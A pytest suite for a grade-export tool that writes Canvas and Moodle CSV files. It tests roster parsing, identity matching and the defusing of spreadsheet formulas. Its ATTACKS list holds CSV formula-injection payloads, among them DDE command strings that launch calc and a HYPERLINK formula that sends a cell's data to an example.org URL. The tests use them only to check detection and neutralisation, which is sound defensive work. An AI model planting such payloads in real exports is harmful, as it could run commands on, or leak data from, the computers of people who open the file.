"""Grades for Canvas and Moodle: read back as their importers read them, the numbers are those of the records."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterable, Mapping
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smol_leaderboard import layout
from smol_leaderboard.batch.results import AWAITED, RESULTS, BatchResult
from smol_leaderboard.board.rebuild import rebuild
from smol_leaderboard.grades import canvas, moodle
from smol_leaderboard.grades.cells import defused, is_dangerous
from smol_leaderboard.grades.errors import (
    MixedFullMarks,
    NoSuchColumn,
    NoSuchUnit,
    NothingGraded,
    RosterNotUtf8,
    RosterUnknown,
    RosterUnreadable,
)
from smol_leaderboard.grades.marks import Mark, Marks, from_batches, from_board
from smol_leaderboard.grades.roster import Table, match, parse_table
from smol_leaderboard.grades.sheet import Asked, OtherFull, Sheet
from smol_leaderboard.schema import canonical

from .memory_store import MemoryStore
from .sample_board import HOSTILE, grade, people, segments
from .sample_board import settings as board_settings

ROOT = Path(__file__).parents[2]
HERE = Path("roster.csv")
ASKED = Asked({"instruction": "unit1", "preference": "unit3"})
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\uff1d1+1",
    "x;=1+1",
    "x\t=1+1",
    "x,=1+1",
    "x\n=1+1",
    "'=1+1;=1+1",
)
HARMLESS = (
    "ada",
    "O'Neil",
    "Smith-Jones",
    "ada@example.org",
    "101",
    "'=1+1",
    "3.5",
    "линия",
    "a=b",
    "Müller, Zoë",
    "",
)


# How the importers read, written from their descriptions and from nothing of ours.


def read_as_canvas(text: str) -> tuple[dict[str, float], dict[str, dict[str, str]]]:
    """Points possible by assignment, and scores by what Canvas finds a person by: its id, SIS ids, else the name."""
    head, *lines = csv.reader(io.StringIO(text, newline=""))
    assert "Student" in head[0]
    assert "ID" in head[1]
    first = head.index("Section") + 1
    known = {"SIS User ID", "SIS Login ID", "Root Account", "Integration ID", "Section"}
    assert set(head[2:first]) <= known
    possible: dict[str, float] = {}
    scores: dict[str, dict[str, str]] = {}
    for line in lines:
        assert len(head) == len(line)
        if "Points Possible" in line[0]:
            assert not possible, "two lines of full marks"
            possible = {name: float(cell) for name, cell in zip(head[first:], line[first:], strict=True)}
            continue
        found = {name: cell for name, cell in zip(head[:first], line[:first], strict=True) if cell}
        person = next(found[name] for name in ("ID", "SIS User ID", "SIS Login ID", "Student") if name in found)
        assert person not in scores
        scores[person] = dict(zip(head[first:], line[first:], strict=True))
    return possible, scores


def read_as_moodle(text: str) -> tuple[str, dict[str, dict[str, str]]]:
    """The identifying column, and grades by person."""
    head, *lines = csv.reader(io.StringIO(text, newline=""))
    assert all(len(head) == len(line) for line in lines)
    people_ = [line[0] for line in lines]
    assert len(set(people_)) == len(people_)
    return head[0], {line[0]: dict(zip(head[1:], line[1:], strict=True)) for line in lines}


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet runs, whichever separator its locale has: it trims, and takes quotes away."""
    found = []
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in line:
                for part in re.split(r"[\r\n]", cell):
                    bare = part.strip(' \t\r\n"\ufeff\0\u00a0\u3000')
                    if bare[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not re.fullmatch(
                        r"[+-]?\d+(\.\d+)?", bare
                    ):
                        found.append(cell)
    return found


def marks_of(of: Mapping[str, Mapping[str, int]], names: Mapping[str, str] | None = None) -> Marks:
    """Grades: learner -> unit -> points."""
    full = {"instruction": 40, "preference": 30}
    given = {who: {unit: Mark(one, full[unit]) for unit, one in units.items()} for who, units in of.items()}
    return Marks(tuple(full), full, dict(names or {who: who for who in of}), given)


def table_of(text: str) -> Table:
    """A roster in Canvas' or Moodle's heads."""
    return parse_table(text.encode("utf-8"), HERE, (*canvas.PEOPLE, *moodle.HEADS))


def csv_of(rows: Iterable[Iterable[str]], delimiter: str = ",") -> str:
    """Rows as an export has them."""
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerows(rows)
    return file.getvalue()


CANVAS = csv_of(
    [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "unit1 (4711)", "Current Score"],
        ["", "", "", "", "", "Manual Posting", ""],
        ["    Points Possible", "", "", "", "", "40.00", "(read only)"],
        ["Lovelace, Ada", "101", "S-1", "ada", "Sec, A", "11.00", "80"],
        ["Builder, Bob", "102", "S-2", "bob", "Sec B", "", ""],
        ['O\'Neil, "Zoë"\nJr', "103", "S-3", "zoe", "Sec B", "9.5", ""],
        ["Idle, Ida", "104", "S-4", "ida", "Sec B", "3", ""],
        ["Student, Test", "999", "", "", "Sec A", "", ""],
    ]
)
MOODLE = csv_of(
    [
        ["First name", "Last name", "ID number", "Email address", "unit1 (Real)"],
        ["Ada", "Lovelace", "S-1", "Ada@Example.org", "-"],
        ["Bob", "Builder", "", "bob@example.org", "-"],
        ["Ida", "Idle", "S-4", "ida@example.org", "3"],
    ],
    ";",
)


# Marks


def batch(folder: Path, *results: BatchResult) -> Path:
    """The folder of a batch."""
    folder.mkdir()
    (folder / RESULTS).write_bytes(b"".join(msgspec.json.encode(one) + b"\n" for one in results))
    return folder


def result(
    learner: str, number: int, points: int, attempt: int = 1, unit: str = "instruction", **more: int
) -> BatchResult:
    """What became of one submission."""
    record = grade(number, unit, points, request=attempt - 1, received=attempt * 100, **more)
    return BatchResult(submission=f"{learner}-{unit}-{attempt}", learner=learner, attempt=attempt, record=record)


def test_the_best_or_the_last_attempt_counts(tmp_path: Path) -> None:
    """A later attempt with fewer points counts only where the last one does; a refused one is none, and no 0."""
    folder = batch(
        tmp_path / "a",
        result("ada", 1, 38),
        result("ada", 1, 30, 2),
        result("bob", 2, 0),
        BatchResult(submission="c", learner="carol", attempt=1, refused="no_files"),
        BatchResult(submission="d", learner="ada", attempt=3, refused="no_files"),
    )
    other = batch(tmp_path / "b", result("ada", 1, 12, unit="preference"))
    best, last = from_batches([folder, other], "best"), from_batches([folder, other], "last")
    assert {"instruction": Mark(38, 40), "preference": Mark(12, 30)} == best.of["ada"]
    assert {"instruction": Mark(30, 40), "preference": Mark(12, 30)} == last.of["ada"]
    assert ({"instruction": Mark(0, 40)}, {}) == (best.of["bob"], best.of["carol"])
    only = from_batches([folder, other], "best", ["preference"])
    assert (("preference",), {"preference": Mark(12, 30)}) == (only.units, only.of["ada"])


def test_a_grade_that_was_replaced_counts_no_more(tmp_path: Path) -> None:
    """A regrade replaces, for better or worse."""
    first = result("ada", 1, 38)
    assert first.record is not None
    second = msgspec.structs.replace(
        first, record=grade(1, points=35, received=100, at=9999, supersedes=first.record.id, suite="0.3.1+a")
    )
    folder = batch(tmp_path / "a", first, second)
    for attempt in ("best", "last"):
        assert Mark(35, 40) == from_batches([folder], attempt).of["ada"]["instruction"]  # type: ignore[arg-type]


def test_what_cannot_be_one_column_is_refused(tmp_path: Path) -> None:
    """Different full marks, a unit without a result, and nothing at all are sentences."""
    mixed = batch(tmp_path / "mixed", result("ada", 1, 38), result("bob", 2, 38, full=50))
    aliases = {"unit1": "instruction", "unit2": "evaluation"}
    with pytest.raises(MixedFullMarks) as caught:
        from_batches([mixed], "best", aliases=aliases)
    assert "unit1 (instruction)" == caught.value.fields["unit"]
    with pytest.raises(NoSuchUnit) as missed:
        from_batches([mixed], "best", ["evaluation"], aliases)
    assert {"unit": "unit2 (evaluation)", "known": "unit1 (instruction)"} == missed.value.fields
    with pytest.raises(NoSuchUnit) as strange:
        from_batches([mixed], "best", ["unit9"])
    assert {"unit": "unit9", "known": "instruction"} == strange.value.fields
    nothing = batch(tmp_path / "nothing", BatchResult(submission="c", learner="carol", attempt=1, refused="no_files"))
    with pytest.raises(NothingGraded):
        from_batches([nothing], "best")


def a_board(*, practice: bool = False) -> MemoryStore:
    """A board with a learner in two attempts, one on a weak tier, one without a name, and a reference."""
    store = MemoryStore({layout.SETTINGS: canonical(board_settings(practice=practice))})
    store.content |= people({1: "ada", 2: "bob"})
    store.content |= segments(
        [
            grade(1, points=38, received=10),
            grade(1, points=30, request=1, received=20),
            grade(2, points=20, tier=2),
            grade(3, points=7),
            grade(4, points=40, reference="solution"),
        ]
    )
    rebuild(store)
    return store


def test_a_board_counts_what_it_ranks() -> None:
    """The best is what the board's row says; a weak tier counts on a board for practice only; references never."""
    marks = from_board(a_board(), "best")
    named = {marks.names[who]: of for who, of in marks.of.items()}
    assert {"ada": {"instruction": Mark(38, 40)}, "": {"instruction": Mark(7, 40)}} == named
    last = from_board(a_board(practice=True), "last")
    assert [Mark(30, 40), Mark(20, 40)] == [
        of["instruction"] for who, of in sorted(last.of.items(), key=lambda one: last.names[one[0]]) if last.names[who]
    ]


# Rosters


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("ending", ["\n", "\r\n"])
@pytest.mark.parametrize("first", ["", "sep={}"])
def test_a_roster_is_read_whatever_a_spreadsheet_made_of_it(
    delimiter: str, encoding: str, ending: str, first: str
) -> None:
    """Byte order marks, UTF-16, semicolons, tabs, a line for Excel, any line ending: the same table."""
    rows = list(csv.reader(io.StringIO(CANVAS, newline="")))
    text = csv_of(rows, delimiter).replace("\r\n", ending)
    text = first.format(delimiter) + ending + text if first else text
    assert table_of(CANVAS).columns == parse_table(text.encode(encoding), HERE, canvas.PEOPLE).columns
    assert table_of(CANVAS).rows == parse_table(text.encode(encoding), HERE, canvas.PEOPLE).rows


def test_commas_in_heads_do_not_hide_the_semicolons() -> None:
    """The separator is the one that shows the heads that are expected."""
    text = "Student;ID;SIS Login ID;Section;a, b, c, d, e (1)\nLovelace, Ada;101;ada;A;\n"
    assert ("Lovelace, Ada", "101", "ada", "A", "") == table_of(text).rows[0]


@pytest.mark.parametrize(
    ("content", "error"),
    [
        ("Student,ID\nZoë,1\n".encode("cp1252"), RosterNotUtf8),
        (b"\xff\xfeS\x00t", RosterUnreadable),
        (b"", RosterUnreadable),
        (b'Student,ID\n"open,1\n', RosterUnreadable),
        (b"Student,ID\na,1,2\n", RosterUnreadable),
        (b'Student,ID\n"' + b"x" * 200_000 + b'",1\n', RosterUnreadable),
    ],
    ids=["cp1252", "half", "empty", "quote", "wide", "huge"],
)
def test_what_is_no_table_is_a_sentence(content: bytes, error: type[Exception]) -> None:
    """Nothing is guessed: a name that is spoilt, or a cell that slips, would give somebody else's grade."""
    with pytest.raises(error):
        canvas.people(parse_table(content, HERE, canvas.PEOPLE))


def test_a_roster_of_the_other_platform_is_refused() -> None:
    """Canvas' export is none of Moodle's, and the other way round."""
    with pytest.raises(RosterUnknown):
        canvas.with_roster(marks_of({"ada": {}}), table_of(MOODLE), ASKED)
    with pytest.raises(RosterUnknown):
        moodle.with_roster(marks_of({"ada": {}}), table_of(CANVAS), ASKED)


def test_the_surest_way_decides() -> None:
    """A login is stronger than somebody else's name; one name of two people, and two learners of one person, are told."""
    matching = match(
        {"1": " ADA ", "2": "Bob  Builder", "3": "twin", "4": "x", "5": "Zoe\u0301", "6": "zoé"},
        [[("ada",), ("b",), ("c",), ("d",), ("e",)], [("zoé",), ("Bob Builder",), ("twin",), ("twin",), ("ada",)]],
    )
    assert {"2": 1} == matching.rows
    assert (("4",), ("3",)) == (matching.unknown, matching.ambiguous)
    assert {"1", "5", "6"} == set(matching.contested)


# Canvas


def test_canvas_gets_its_own_ids_and_columns_back() -> None:
    """Ids, sections and the numbered head are copied; who has no result has no line; what stood there stays."""
    given = {
        "ADA": {"instruction": 38},
        "S-2": {"instruction": 0, "preference": 12},
        "Jr O'Neil": {},
        "stranger": {"preference": 1},
    }
    given['O\'Neil, "Zoë" Jr'] = {"preference": 7}
    sheet = canvas.with_roster(marks_of(given), table_of(CANVAS), ASKED)
    possible, scores = read_as_canvas(sheet.text)
    assert {"unit1 (4711)": 40, "unit3": 30} == possible
    assert {
        "101": {"unit1 (4711)": "38", "unit3": ""},
        "102": {"unit1 (4711)": "0", "unit3": "12"},
        "103": {"unit1 (4711)": "9.5", "unit3": "7"},
    } == scores
    assert {"unknown": ("Jr O'Neil", "stranger")} == sheet.left_out
    assert ("Idle, Ida",) == sheet.idle
    assert "Current Score" not in sheet.text
    rows = list(csv.reader(io.StringIO(sheet.text, newline="")))
    assert ["Lovelace, Ada", "101", "S-1", "ada", "Sec, A"] == rows[2][:5]
    assert 'O\'Neil, "Zoë"\nJr' == rows[4][0]


def test_heads_in_another_case_are_canvas_all_the_same() -> None:
    """What a spreadsheet's user retyped is written as Canvas wants it, and identifiers stay identifiers."""
    roster = "student,id,sis login id,section,Unit1 (7)\n-Ada,101,-ada,A,1\n,,,,\n"
    sheet = canvas.with_roster(marks_of({"101": {"instruction": 2}}), table_of(roster), ASKED)
    rows = list(csv.reader(io.StringIO(sheet.text, newline="")))
    assert ["Student", "ID", "SIS Login ID", "Section", "Unit1 (7)", "unit3"] == rows[0]
    assert ["'-Ada", "101", "", "A", "2", ""] == rows[2]


def test_canvas_without_a_roster() -> None:
    """Name and login are what the learner is called here, the ids are empty."""
    sheet = canvas.without_roster(marks_of({"bob": {}, 'a "b", c': {"instruction": 3}}), ASKED)
    rows = list(csv.reader(io.StringIO(sheet.text, newline="")))
    assert ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "unit1", "unit3"] == rows[0]
    assert ["    Points Possible", "", "", "", "", "40", "30"] == rows[1]
    assert [['a "b", c', "", "", 'a "b", c', "", "3", ""], ["bob", "", "", "bob", "", "", ""]] == rows[2:]
    assert ("bob",) == sheet.ungraded


def test_a_column_that_is_named_is_that_one() -> None:
    """`--column` takes the roster's column of that name; without one, Canvas will make an assignment."""
    asked = Asked({"instruction": "Homework 1", "preference": "unit3"})
    head = CANVAS.replace("unit1 (4711)", "Homework 1 (5)")
    possible, _ = read_as_canvas(canvas.with_roster(marks_of({"ada": {}}), table_of(head), asked).text)
    assert ["Homework 1 (5)", "unit3"] == list(possible)
    aliases = ASKED._replace(aliases={"instruction": ("unit1: Instruction tuning",)})
    head = CANVAS.replace("unit1 (4711)", "Unit1: instruction tuning (7)")
    possible, _ = read_as_canvas(canvas.with_roster(marks_of({"ada": {}}), table_of(head), aliases).text)
    assert ["Unit1: instruction tuning (7)", "unit3"] == list(possible)


def test_other_full_marks_are_told() -> None:
    """38 points of 40 are something else where the assignment has 100."""
    sheet = canvas.with_roster(marks_of({"ada": {}}), table_of(CANVAS.replace("40.00", "100.00")), ASKED)
    assert (OtherFull("unit1 (4711)", "100.00", 40),) == sheet.other_full
    assert () == canvas.with_roster(marks_of({"ada": {}}), table_of(CANVAS), ASKED).other_full


@pytest.mark.parametrize("name", ["Points Possible", "    points possible", "x Points Possible"])
def test_nobody_is_the_line_of_full_marks(name: str) -> None:
    """Who calls themselves so gets a grade by id, and changes no full marks."""
    roster = CANVAS.replace('"Lovelace, Ada"', name)
    possible, scores = read_as_canvas(
        canvas.with_roster(marks_of({"ada": {"instruction": 1}}), table_of(roster), ASKED).text
    )
    assert (40, "1") == (possible["unit1 (4711)"], scores["101"]["unit1 (4711)"])
    alone = canvas.without_roster(marks_of({name: {"instruction": 1}, "bob": {}}), ASKED)
    assert {"unit1": 40, "unit3": 30} == read_as_canvas(alone.text)[0]


# Moodle


def test_moodle_gets_the_identifier_that_everybody_has() -> None:
    """Bob has no ID number, so people are found by email address, letter by letter as in the roster."""
    given = {"ada@example.org": {"instruction": 38}, "Builder, Bob": {"preference": 2}, "nobody": {"instruction": 1}}
    sheet = moodle.with_roster(marks_of(given), table_of(MOODLE), ASKED)
    head, scores = read_as_moodle(sheet.text)
    assert "Email address" == head
    assert {
        "Ada@Example.org": {"unit1": "38", "unit3": ""},
        "bob@example.org": {"unit1": "", "unit3": "2"},
    } == scores
    assert {"unknown": ("nobody",)} == sheet.left_out
    assert ("Ida Idle",) == sheet.idle


def test_moodle_in_spanish() -> None:
    """The heads of an export in Spanish are known."""
    text = "Nombre,Apellido(s),Número de ID,Dirección de correo\nAda,Lovelace,S-1,ada@example.org\n"
    head, scores = read_as_moodle(moodle.with_roster(marks_of({"ada lovelace": {}}), table_of(text), ASKED).text)
    assert ("Dirección de correo", ["ada@example.org"]) == (head, list(scores))


@pytest.mark.parametrize(
    "heads",
    ["Identifier,Full name,ID number,Email address,Status", "Identificador,Nombre completo,Número de ID,Email,Estado"],
)
def test_moodles_worksheet_is_a_roster(heads: str) -> None:
    """That for grading an assignment offline: full names are looked at, people get the identifier of the import."""
    text = f'{heads}\nParticipant 12345,Ana Alvarez,,ana@uni.edu,x\nParticipant 7,"Ben, the Other",9,ben@uni.edu,x\n'
    sheet = moodle.with_roster(marks_of({"ana alvarez": {"instruction": 38}, "12345": {}}), table_of(text), ASKED)
    assert {"ana@uni.edu": {"unit1": "38", "unit3": ""}} == read_as_moodle(sheet.text)[1]
    assert ({"unknown": ("12345",)}, ("Ben, the Other",)) == (sheet.left_out, sheet.idle)


def test_moodle_without_a_roster() -> None:
    """What the learner is called is the user name."""
    head, scores = read_as_moodle(moodle.without_roster(marks_of({"bob": {}, "ada": {"instruction": 0}}), ASKED).text)
    assert ("Username", {"ada": {"unit1": "0", "unit3": ""}, "bob": {"unit1": "", "unit3": ""}}) == (head, scores)


def test_by_takes_one_column_and_no_other() -> None:
    """With the column of Hub names, who calls themselves like somebody's login is nobody."""
    text = csv_of([["Username", "Hub"], ["ada", "Ada-L"], ["bob", "bobby"]])
    given = marks_of({"s1": {"instruction": 1}, "s2": {"instruction": 40}}, {"s1": "ada-l", "s2": "bob"})
    sheet = moodle.with_roster(given, table_of(text), ASKED._replace(by="hub"))
    assert {"ada": {"unit1": "1", "unit3": ""}} == read_as_moodle(sheet.text)[1]
    assert {"unknown": ("bob",)} == sheet.left_out
    with pytest.raises(NoSuchColumn):
        moodle.with_roster(given, table_of(text), ASKED._replace(by="Nope"))


# Formulas


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_is_known(text: str) -> None:
    """Each is seen, and harmless with its apostrophe."""
    assert is_dangerous(text)
    assert not is_dangerous(defused(text))
    assert [] == formulas(csv_of([[defused(text)]]))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    """Hyphens, apostrophes, addresses and numbers are no formulas."""
    assert (False, text) == (is_dangerous(text), defused(text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_without_a_roster_a_hostile_name_is_left_out_and_told(attack: str) -> None:
    """With an apostrophe it would be no login any more, so it is not written at all."""
    marks = marks_of({attack: {"instruction": 40}, "bob": {"instruction": 1}})
    for sheet in (canvas.without_roster(marks, ASKED), moodle.without_roster(marks, ASKED)):
        assert ([], ("bob",)) == (formulas(sheet.text), sheet.written)
        assert {"unsafe": (attack,)} == sheet.left_out


@pytest.mark.parametrize("attack", ATTACKS)
def test_in_canvas_an_identifier_is_whole_or_absent(attack: str) -> None:
    """A hostile name is defused, a hostile login left away: the id finds the person; without any, there is no line."""
    head = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    rows = [
        head,
        [attack, "101", attack, attack, attack],
        [attack, "", attack, attack, "A"],
        ["Bob", "", "", "bob", "B"],
    ]
    marks = marks_of({"one": {"instruction": 5}, "two": {"instruction": 6}, "bob": {"instruction": 7}})
    keyed = [[*row, key] for row, key in zip(rows, ("Hub", "one", "two", "bob"), strict=True)]
    sheet = canvas.with_roster(marks, table_of(csv_of(keyed)), ASKED._replace(by="Hub"))
    assert [] == formulas(sheet.text)
    _, scores = read_as_canvas(sheet.text)
    assert {"101": "5", "bob": "7"} == {who: cells["unit1"] for who, cells in scores.items()}
    assert {"unsafe": ("two",)} == sheet.left_out


text = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from(HARMLESS),
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
    st.text("=+-@,;\t\r\n\"' ab1\0", max_size=8),
)
points_ = st.dictionaries(st.sampled_from(["instruction", "preference"]), st.integers(0, 30))


def assert_true_and_harmless(sheet: Sheet, marks: Marks, scores: Mapping[str, Mapping[str, str]]) -> None:
    """No formula; every learner has one line or is told of; the points are those of the record."""
    assert [] == formulas(sheet.text)
    left = sum(len(names) for names in sheet.left_out.values())
    assert len(marks.names) == len(sheet.written) + left
    assert len(sheet.written) == len(scores)
    told = sorted([sheet.written, *sheet.left_out.values()])
    assert len(marks.names) == sum(map(len, told))


@settings(deadline=None, max_examples=200)
@given(st.dictionaries(text, points_, max_size=5))
def test_any_names_without_a_roster(of: dict[str, dict[str, int]]) -> None:
    """Whatever learners are called, each importer reads what was written of whom."""
    marks = marks_of(of)
    expected = {
        name.strip(): [str(units.get(unit, "")) for unit in marks.units] for name, units in of.items() if name.strip()
    }
    for sheet, scores in (
        ((one := canvas.without_roster(marks, ASKED)), read_as_canvas(one.text)[1]),
        ((two := moodle.without_roster(marks, ASKED)), read_as_moodle(two.text)[1]),
    ):
        assert_true_and_harmless(sheet, marks, scores)
        for name, cells in scores.items():
            assert expected[name] == list(cells.values())


@settings(deadline=None, max_examples=200)
@given(
    st.lists(st.tuples(text, text, text, text), max_size=4), st.lists(points_, min_size=4, max_size=4), st.booleans()
)
def test_any_roster(cells: list[tuple[str, str, str, str]], points: list[dict[str, int]], semicolons: bool) -> None:
    """Whatever stands in a roster, an identifier is written letter by letter or not at all, and gets its own points."""
    delimiter = ";" if semicolons else ","
    numbered = [[*row, f"hub{number}"] for number, row in enumerate(cells)]
    marks = marks_of({f"hub{number}": points[number] for number in range(len(cells))})
    asked = ASKED._replace(by="Hub")
    head = ["Student", "SIS User ID", "SIS Login ID", "Section", "Hub"]
    ids = [[row[0], str(number), *row[1:]] for number, row in enumerate(numbered)]
    roster = table_of(csv_of([[head[0], "ID", *head[1:]], *ids], delimiter))
    sheet = canvas.with_roster(marks, roster, asked)
    _, scores = read_as_canvas(sheet.text)
    assert [] == formulas(sheet.text)
    for number, cells_ in scores.items():
        assert [str(points[int(number)].get(unit, "")) for unit in marks.units] == list(cells_.values())
    roster = table_of(csv_of([["Username", "First name", "Last name", "Other", "Hub"], *numbered], delimiter))
    sheet = moodle.with_roster(marks, roster, asked)
    assert [] == formulas(sheet.text)
    lines = list(csv.reader(io.StringIO(sheet.text, newline="")))[1:]
    known = [row[0] for row in roster.rows]
    assert all(line[0] in known for line in lines)


# The command


def smol_leaderboard(tmp_path: Path, *words: str, **variables: str) -> subprocess.CompletedProcess[bytes]:
    """The program, with a home of its own."""
    environment = {
        **os.environ,
        "PYTHONPATH": f"{ROOT / 'grader'}{os.pathsep}{ROOT / 'leaderboard'}",
        "SMOL_LEADERBOARD_HOME": str(tmp_path / "home"),
        "LC_ALL": "C.UTF-8",
        **variables,
    }
    command = [sys.executable, "-m", "smol_leaderboard", "grades", *words]
    return subprocess.run(command, env=environment, cwd=tmp_path, capture_output=True, check=False)


@pytest.mark.parametrize("language", ["en", "es"])
def test_the_command_writes_the_file_and_tells_who_is_not_in_it(language: str, tmp_path: Path) -> None:
    """Data goes into the file, names on stderr; 1 as long as a grade is in no line, in any encoding of the terminal."""
    batch(tmp_path / "week1", result("zoe", 1, 38), result("\x1b[31m=1+1", 2, 40))
    (tmp_path / "canvas.csv").write_text(CANVAS, "utf-8-sig")
    words = ("week1", "--for", "canvas", "--roster", "canvas.csv", "--lang", language)
    done = smol_leaderboard(tmp_path, *words, "--out", "grades.csv")
    text = (tmp_path / "grades.csv").read_text("utf-8")
    assert (1, b"") == (done.returncode, done.stdout)
    assert {"103": {"unit1 (4711)": "38"}} == read_as_canvas(text)[1]
    said = done.stderr.decode("utf-8")
    for name in ("\\x1b[31m=1+1", "Lovelace, Ada; Builder, Bob; Idle, Ida"):
        assert name in said
    assert "\x1b" not in said
    shown = smol_leaderboard(tmp_path, *words, PYTHONIOENCODING="ascii")
    assert (tmp_path / "grades.csv").read_bytes() == shown.stdout


@pytest.mark.parametrize("language", ["en", "es"])
def test_a_batch_that_has_not_ended_is_told(language: str, tmp_path: Path) -> None:
    """Whose submission has no result yet is named, by what the batch calls it; nothing is said where all have one."""
    done, left = result("zoe", 1, 38), result("ada", 2, 40)
    folder = batch(tmp_path / "week1", done)
    words = ("week1", "--for", "moodle", "--lang", language)
    before = smol_leaderboard(tmp_path, *words)
    (folder / AWAITED).write_bytes(msgspec.json.encode([done.submission, left.submission, "a\x1b[31m, b"]))
    killed = smol_leaderboard(tmp_path, *words)
    said = " ".join(killed.stderr.decode().split())
    assert "week1: " in said
    assert f"({left.submission}; a\\x1b[31m, b)" in said
    assert (before.returncode, before.stdout) == (killed.returncode, killed.stdout)
    (folder / AWAITED).write_bytes(msgspec.json.encode([done.submission]))
    assert before.stderr == smol_leaderboard(tmp_path, *words).stderr
    (folder / AWAITED).write_bytes(b"[")
    assert before.stderr == smol_leaderboard(tmp_path, *words).stderr


def test_the_command_reads_a_board_by_a_column_of_the_roster(tmp_path: Path) -> None:
    """Without `--by`, names from the Hub are not taken for logins; with it, all is written and the exit is 0."""
    a_board(practice=True).save(tmp_path / "board")
    rows = [["Username", "Hub"], ["al", "ada"], ["bb", "bob"]]
    (tmp_path / "moodle.csv").write_text(csv_of(rows, ";"), "utf-8")
    words = ("--board", "board", "--for", "moodle", "--roster", "moodle.csv")
    refused = smol_leaderboard(tmp_path, *words)
    assert (2, b"") == (refused.returncode, refused.stdout)
    assert b"--by" in refused.stderr
    done = smol_leaderboard(tmp_path, *words, "--by", "Hub", "--column", "unit1=Quiz; one")
    assert ("Username", {"al": {"Quiz; one": "38"}, "bb": {"Quiz; one": "20"}}) == read_as_moodle(done.stdout.decode())


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["nowhere", "--for", "canvas"], "batch"),
        (["week1", "--for", "canvas", "--unit", "unit9"], "unit9; there are results of: unit1 (instruction)"),
        (["week1", "--for", "canvas", "--unit", "evaluation"], "no result of unit2 (evaluation)"),
        (["week1", "--for", "canvas", "--roster", "r.csv", "--out", "./r.csv"], "r.csv is the roster"),
        (["week1", "--for", "canvas", "--roster", "r.csv", "--out", "./r.csv"], "Name another file with --out."),
        (["week1", "--for", "canvas", "--roster", "r.csv", "--by", "A"], "has: Student; A, B; ID"),
        (["week1", "--for", "canvas", "--column", "unit1"], "UNIT=NAME"),
        (["week1", "--for", "canvas", "--roster", "nowhere.csv"], "nowhere.csv"),
        (["week1", "--for", "canvas", "--roster", "week1"], "week1"),
        (["week1", "--for", "canvas", "--out", "nowhere/x.csv"], "nowhere"),
        (["week1", "--for", "blackboard"], "moodle"),
    ],
)
def test_wrong_use_is_a_sentence(words: list[str], said: str, tmp_path: Path) -> None:
    """No traceback, no file, an exit code of its own."""
    batch(tmp_path / "week1", result("zoe", 1, 38))
    (tmp_path / "r.csv").write_text('Student,"A, B",ID\n"Quist, Zoe",,7\n')
    done = smol_leaderboard(tmp_path, *words)
    assert done.returncode in (2, 3)
    assert b"" == done.stdout
    assert said in " ".join(done.stderr.decode().split())
    assert "Traceback" not in done.stderr.decode()
